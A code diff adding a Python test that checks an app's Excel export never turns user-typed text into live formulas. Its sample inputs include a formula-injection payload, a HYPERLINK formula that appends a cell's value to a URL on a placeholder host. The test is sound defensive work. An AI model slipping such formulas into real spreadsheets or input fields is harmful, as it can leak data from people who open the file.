@@ -233,6 +233,24 @@ def test_a_round_without_any_level_exports(database, folder):
     import_round_trips(*database, write_csv(folder / "geen_niveau.csv", partners, ";", False, "\r\n", list), partners)
 
 
+def test_the_excel_export_never_turns_a_text_into_a_formula(connection, tmp_path):
+    """Names, remarks and actions typed in the workshop app may start with '='; openpyxl would write
+    them as live formulas, which Excel runs when the analyst opens the export."""
+    texts = ['=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")', "=1+1", "+32 9 123 45 67", "@SUM(A1)", "-2+3"]
+    huis = store.save_huis(connection, "Huis van het Kind Formule", ["44021"])
+    ronde = store.save_ronde(connection, huis, 1, "2026-03-01", ROADMAP)
+    for number, text in enumerate(texts):
+        deelnemer = store.save_deelnemer(connection, ronde, text, organisatie=text)
+        store.save_antwoorden(connection, deelnemer, pd.DataFrame(
+            [("onderwijs.1", "niveau", 2, text)], columns=["stelling_id", "keuze", "niveau", "toelichting"]))
+        store.save_actie(connection, ronde, "onderwijs", text, trekker=text)
+    path = tmp_path / "export.xlsx"
+    export.exporteer(connection, huis, path, met_namen=True)
+    cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert set(texts) <= {cell.value for cell in cells}
+
+
 def refused_or_imported(database, path: Path) -> GebruikersFout | None:
     """Import `path`: it either lands whole as a new round, or is refused naming the file with the store
     untouched."""
